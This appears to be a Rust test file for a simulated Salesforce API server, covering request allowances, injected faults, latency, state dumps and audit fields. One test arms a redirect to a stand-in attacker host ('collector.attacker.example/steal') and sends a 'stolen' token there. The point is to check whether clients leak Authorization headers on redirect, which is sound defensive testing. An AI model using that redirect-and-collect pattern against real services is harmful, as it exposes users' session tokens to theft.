//! Control and observation: daily API allowance (salesforce.md §B.2), faults, latency, state dump.

use org_sim::{Fault, FaultKind, SimConfig};
use serde_json::json;

use crate::api::*;
use crate::common::*;

#[test]
fn api_allowance_is_counted_and_enforced() {
    let sim = start_with(SimConfig {
        api_allowance: 3,
        ..Default::default()
    });
    let api = Api::admin(&sim);
    let r = api.get("limits");
    assert_eq!(r.header("sforce-limit-info"), Some("api-usage=1/3"));
    assert_eq!(
        r.json()["DailyApiRequests"],
        json!({"Max": 3, "Remaining": 2})
    );
    api.get("sobjects/");
    let r = api.get("limits");
    assert_eq!(r.header("sforce-limit-info"), Some("api-usage=3/3"));
    let r = api.get("limits");
    assert_exact(
        &r,
        403,
        json!([{"message": "TotalRequests Limit exceeded.", "errorCode": "REQUEST_LIMIT_EXCEEDED"}]),
    );
    assert_eq!(r.header("sforce-limit-info"), Some("api-usage=3/3"));
    // The version list needs no session and is not counted.
    assert_eq!(
        get(
            &sim.agent(),
            &format!("https://{ACME}/services/data/"),
            None
        )
        .status,
        200
    );
    sim.set_api_usage("acme", 0);
    assert_eq!(api.get("limits").status, 200);
    sim.spend_api_allowance("acme");
    assert_eq!(api.get("limits").status, 403);
    // Admin endpoint.
    sim.set_api_usage("acme", 0);
    let r = post(
        &sim.agent(),
        &format!("https://127.0.0.1:{}/__sim/api-usage", sim.port()),
        "application/json",
        r#"{"org":"acme"}"#,
    );
    assert_eq!(r.status, 204);
    assert_eq!(api.get("limits").status, 403);
}

#[test]
fn faults_fail_nth_write_and_matching_requests() {
    let sim = start();
    let api = Api::admin(&sim);
    sim.add_fault(Fault::fail_nth_write(
        2,
        503,
        "SERVER_UNAVAILABLE",
        "Try later",
    ));
    assert_eq!(
        api.post("sobjects/Account", &json!({"Name": "w1"})).status,
        201
    );
    api.get("limits");
    let before = sim.state_dump("acme");
    let r = api.post("sobjects/Account", &json!({"Name": "w2"}));
    assert_exact(
        &r,
        503,
        json!([{"message": "Try later", "errorCode": "SERVER_UNAVAILABLE"}]),
    );
    assert_eq!(
        sim.state_dump("acme"),
        before,
        "a failed write has no effect"
    );
    assert_eq!(
        api.post("sobjects/Account", &json!({"Name": "w3"})).status,
        201,
        "fires once"
    );
    let mut f = Fault::matching(
        FaultKind::Fail,
        "PATCH",
        "/services/data/*/sobjects/Account/*",
    );
    f.status = 400;
    f.error_code = "UNABLE_TO_LOCK_ROW".into();
    f.message = "unable to obtain exclusive access to this record".into();
    sim.add_fault(f);
    let acc = api.id("SELECT Id FROM Account LIMIT 1");
    assert_eq!(
        api.patch(&format!("sobjects/Account/{acc}"), &json!({"Name": "x"}))
            .json()[0]["errorCode"],
        "UNABLE_TO_LOCK_ROW"
    );
    // Through the admin endpoint.
    let admin = |method: &str, path: &str, body: &str| {
        let url = format!("https://127.0.0.1:{}{path}", sim.port());
        let req = ureq::http::Request::builder()
            .method(method)
            .uri(&url)
            .header("Content-Type", "application/json")
            .body(body.to_owned())
            .unwrap();
        let mut r = sim.agent().run(req).unwrap();
        (
            r.status().as_u16(),
            r.body_mut().read_to_string().unwrap_or_default(),
        )
    };
    let (s, _) = admin(
        "POST",
        "/__sim/faults",
        r#"{"kind":"fail","method":"GET","path":"/services/data/v66.0/limits","status":500,"errorCode":"UNKNOWN_EXCEPTION","message":"boom"}"#,
    );
    assert_eq!(s, 201);
    assert!(admin("GET", "/__sim/faults", "").1.contains("boom"));
    assert_eq!(api.get("limits").status, 500);
    sim.add_fault(Fault::matching(
        FaultKind::Fail,
        "GET",
        "/services/data/v66.0/limits",
    ));
    assert_eq!(admin("DELETE", "/__sim/faults", "").0, 204);
    assert_eq!(api.get("limits").status, 200);
}

#[test]
fn faults_malformed_json_and_truncated_body() {
    let sim = start();
    let api = Api::admin(&sim);
    sim.add_fault(Fault::matching(
        FaultKind::MalformedJson,
        "GET",
        "/services/data/v66.0/query",
    ));
    let r = api.get(&format!("query?q={}", q("SELECT Id FROM User")));
    assert_eq!(r.status, 200);
    assert!(
        serde_json::from_str::<serde_json::Value>(&r.body).is_err(),
        "malformed: {}",
        r.body
    );
    assert_eq!(
        api.get(&format!("query?q={}", q("SELECT Id FROM User")))
            .json()["totalSize"],
        30
    );
    sim.add_fault(Fault::matching(
        FaultKind::Truncate,
        "",
        "/services/data/v66.0/sobjects/",
    ));
    let req = ureq::http::Request::builder()
        .uri(api.url("sobjects/"))
        .header("Authorization", format!("Bearer {}", api.sid))
        .body(())
        .unwrap();
    let outcome = sim
        .agent()
        .run(req)
        .and_then(|mut r| r.body_mut().read_to_string());
    assert!(outcome.is_err(), "body cut short");
    assert_eq!(api.get("sobjects/").status, 200);
}

#[test]
fn latency_is_fixed_or_jittered_deterministically() {
    let sim = start_with(SimConfig {
        latency_ms: 40,
        ..Default::default()
    });
    let api = Api::admin(&sim);
    let t = std::time::Instant::now();
    api.get("limits");
    assert!(t.elapsed() >= std::time::Duration::from_millis(40));
    sim.set_latency(0, 0);
    let t = std::time::Instant::now();
    api.get("limits");
    assert!(t.elapsed() < std::time::Duration::from_millis(40));
}

#[test]
fn state_dump_over_http_and_reset() {
    let sim = start();
    let api = Api::admin(&sim);
    let r = get(
        &sim.agent(),
        &format!("https://127.0.0.1:{}/__sim/state?org=acme", sim.port()),
        None,
    );
    assert_eq!(r.status, 200);
    let dump = r.json();
    assert_eq!(dump, sim.state_dump("acme"));
    assert_eq!(dump["User"].as_array().unwrap().len(), 30);
    assert!(dump["FieldPermissions"].as_array().unwrap().len() > 800);
    let first = &dump["Account"][0];
    assert!(first["Id"].is_string() && first["Name"].is_string());
    api.create("Account", json!({"Name": "Temp"}));
    assert_ne!(sim.state_dump("acme"), dump);
    sim.reset();
    assert_eq!(sim.state_dump("acme"), dump);
    assert_eq!(sim.state_dump("nope"), serde_json::Value::Null);
}

/// Sends a write with the sim's agent; `Err` when no whole answer arrived.
fn send_raw(
    sim: &org_sim::RunningSim,
    api: &Api,
    method: &str,
    path: &str,
    body: &str,
) -> Result<(u16, String), String> {
    let req = ureq::http::Request::builder()
        .method(method)
        .uri(api.url(path))
        .header("Authorization", format!("Bearer {}", api.sid))
        .header("Content-Type", "application/json")
        .body(body.to_owned())
        .unwrap();
    let mut response = sim.agent().run(req).map_err(|e| e.to_string())?;
    let status = response.status().as_u16();
    let body = response
        .body_mut()
        .read_to_string()
        .map_err(|e| e.to_string())?;
    Ok((status, body))
}

fn accounts_named(api: &Api, name: &str) -> usize {
    api.query(&format!("SELECT Id FROM Account WHERE Name = '{name}'"))
        .len()
}

/// The faults that lose an answer run the request first (it commits), then the client gets no
/// whole answer: the connection is closed before any answer, or mid-body, or a gateway's 502.
#[test]
fn finding_5_the_sims_lost_answer_faults_cut_the_connection_honestly() {
    let sim = start();
    let api = Api::admin(&sim);
    let path = "/services/data/v66.0/sobjects/Account";
    sim.add_fault(Fault::matching(FaultKind::Cut, "POST", path));
    let outcome = send_raw(&sim, &api, "POST", "sobjects/Account", r#"{"Name":"Cut"}"#);
    assert!(outcome.is_err(), "no answer: {outcome:?}");
    assert_eq!(accounts_named(&api, "Cut"), 1, "the request ran");

    sim.add_fault(Fault::matching(FaultKind::Truncate, "POST", path));
    let outcome = send_raw(
        &sim,
        &api,
        "POST",
        "sobjects/Account",
        r#"{"Name":"Truncated"}"#,
    );
    assert!(outcome.is_err(), "answer cut short: {outcome:?}");
    assert_eq!(accounts_named(&api, "Truncated"), 1);

    sim.add_fault(Fault::matching(FaultKind::MalformedJson, "POST", path));
    let (status, body) = send_raw(
        &sim,
        &api,
        "POST",
        "sobjects/Account",
        r#"{"Name":"Malformed"}"#,
    )
    .unwrap();
    assert_eq!(status, 201);
    assert!(
        serde_json::from_str::<serde_json::Value>(&body).is_err(),
        "{body}"
    );
    assert_eq!(accounts_named(&api, "Malformed"), 1);

    sim.add_fault(
        Fault::matching(FaultKind::FailAfterCommit, "POST", path).with_status(502, "", ""),
    );
    let (status, body) = send_raw(
        &sim,
        &api,
        "POST",
        "sobjects/Account",
        r#"{"Name":"Gateway"}"#,
    )
    .unwrap();
    assert_eq!(status, 502);
    assert!(body.contains("Bad Gateway"), "{body}");
    assert_eq!(accounts_named(&api, "Gateway"), 1);

    // A refusal runs nothing.
    sim.add_fault(Fault::matching(FaultKind::Fail, "POST", path));
    let (status, _) = send_raw(
        &sim,
        &api,
        "POST",
        "sobjects/Account",
        r#"{"Name":"Refused"}"#,
    )
    .unwrap();
    assert_eq!(status, 500);
    assert_eq!(accounts_named(&api, "Refused"), 0);
    // The connection pool recovers: the next call is answered normally.
    assert_eq!(api.get("limits").status, 200);
}

/// Where the API allows partial success (collections with allOrNone=false, salesforce.md §B.3),
/// a partial-failure fault refuses one record and runs the others; with allOrNone=true it
/// changes nothing.
#[test]
fn partial_failure_refuses_one_record_where_the_api_allows_it() {
    let sim = start();
    let api = Api::admin(&sim);
    let a = api.create("Account", json!({"Name": "P1"}));
    let b = api.create("Account", json!({"Name": "P2"}));
    sim.add_fault(
        Fault::matching(
            FaultKind::PartialFailure,
            "DELETE",
            "/services/data/v66.0/composite/sobjects",
        )
        .with_status(
            200,
            "UNABLE_TO_LOCK_ROW",
            "unable to obtain exclusive access to this record",
        )
        .on_record(1),
    );
    let r = api.delete(&format!("composite/sobjects?ids={a},{b}&allOrNone=false"));
    let results = r.json();
    assert_eq!(results[0]["success"], true);
    assert_eq!(results[1]["success"], false);
    assert_eq!(results[1]["errors"][0]["statusCode"], "UNABLE_TO_LOCK_ROW");
    assert_eq!(accounts_named(&api, "P1"), 0);
    assert_eq!(accounts_named(&api, "P2"), 1);
}

/// Another admin acting meanwhile: the call runs as that user, through the same write engine,
/// and armed faults never hit it.
#[test]
fn api_as_runs_a_call_as_another_user_past_the_faults() {
    let sim = start();
    sim.add_fault(Fault::matching(FaultKind::Fail, "", "*"));
    let (status, body) = sim.api_as(
        "acme",
        "grace.hopper@acme.example",
        "POST",
        "/services/data/v66.0/sobjects/Account",
        Some(&json!({"Name": "Grace Account"})),
    );
    assert_eq!(status, 201, "{body}");
    sim.clear_faults();
    let api = Api::admin(&sim);
    let grace = api.user_id("grace.hopper@acme.example");
    let rows = api.query("SELECT CreatedById FROM Account WHERE Name = 'Grace Account'");
    assert_eq!(rows[0]["CreatedById"], json!(grace));
}

/// salesforce.md §I.6: the sim gives FieldPermissions and PermissionSetAssignment no CreatedById
/// or CreatedDate (SystemModstamp only); PermissionSet, ObjectPermissions and
/// PermissionSetLicenseAssign have them.
#[test]
fn audit_fields_exist_only_where_salesforce_has_them() {
    let sim = start();
    let api = Api::admin(&sim);
    for (object, audited) in [
        ("PermissionSet", true),
        ("ObjectPermissions", true),
        ("PermissionSetLicenseAssign", true),
        ("FieldPermissions", false),
        ("PermissionSetAssignment", false),
    ] {
        let describe = api.get(&format!("sobjects/{object}/describe")).json();
        let names: Vec<&str> = describe["fields"]
            .as_array()
            .unwrap()
            .iter()
            .map(|f| f["name"].as_str().unwrap())
            .collect();
        assert!(names.contains(&"SystemModstamp"), "{object}");
        for audit in [
            "CreatedById",
            "CreatedDate",
            "LastModifiedById",
            "LastModifiedDate",
        ] {
            assert_eq!(names.contains(&audit), audited, "{object}.{audit}");
        }
        let r = api.get(&format!(
            "query?q={}",
            q(&format!("SELECT CreatedDate FROM {object} LIMIT 1"))
        ));
        assert_eq!(r.status == 200, audited, "{object}: {}", r.body);
    }
}

#[test]
fn a_redirect_fault_sends_the_client_to_another_host_the_sim_serves_and_logs() {
    let sim = start();
    let api = Api::admin(&sim);
    let elsewhere = "https://collector.attacker.example/steal?from=acme";
    sim.add_fault(Fault::redirect(
        "GET",
        "/services/oauth2/userinfo",
        elsewhere,
    ));
    let r = get(
        &sim.agent(),
        &format!("https://{ACME}/services/oauth2/userinfo"),
        Some(&api.sid),
    );
    assert_eq!(r.status, 302);
    assert_eq!(r.header("location"), Some(elsewhere));
    // Fired once: the next call runs.
    let r = get(
        &sim.agent(),
        &format!("https://{ACME}/services/oauth2/userinfo"),
        Some(&api.sid),
    );
    assert_eq!(r.status, 200);

    // A client that followed it with the token would show up here: the other host is served
    // (404) and logged with whether an Authorization header came along.
    get(&sim.agent(), elsewhere, Some("stolen"));
    get(&sim.agent(), elsewhere, None);
    // It grants a browser's CORS preflight for whatever it asks, Authorization included.
    let preflight = ureq::http::Request::builder()
        .method("OPTIONS")
        .uri(elsewhere)
        .header("Origin", "chrome-extension://forcefield")
        .header("Access-Control-Request-Method", "GET")
        .header(
            "Access-Control-Request-Headers",
            "authorization,sforce-call-options",
        )
        .body(())
        .unwrap();
    let granted = sim.agent().run(preflight).unwrap();
    assert_eq!(granted.status().as_u16(), 204);
    let header = |name: &str| {
        granted
            .headers()
            .get(name)
            .and_then(|v| v.to_str().ok())
            .map(str::to_owned)
    };
    assert_eq!(
        header("access-control-allow-origin").as_deref(),
        Some("chrome-extension://forcefield")
    );
    assert_eq!(
        header("access-control-allow-headers").as_deref(),
        Some("authorization,sforce-call-options")
    );
    let log = sim.request_log();
    let at_collector: Vec<bool> = log
        .iter()
        .filter(|c| c.host == "collector.attacker.example")
        .map(|c| c.auth_sent)
        .collect();
    assert_eq!(at_collector, [true, false, false]);
    let redirected = log
        .iter()
        .find(|c| c.path == "/services/oauth2/userinfo")
        .map(|c| (c.status, c.auth_sent));
    assert_eq!(redirected, Some((302, true)));

    let armed = post(
        &sim.agent(),
        &format!("https://127.0.0.1:{}/__sim/faults", sim.port()),
        "application/json",
        &format!(r#"{{"kind":"redirect","path":"/services/data/","location":"{elsewhere}"}}"#),
    );
    assert_eq!(armed.status, 201);
    let r = get(
        &sim.agent(),
        &format!("https://{ACME}/services/data/"),
        None,
    );
    assert_eq!((r.status, r.header("location")), (302, Some(elsewhere)));
}
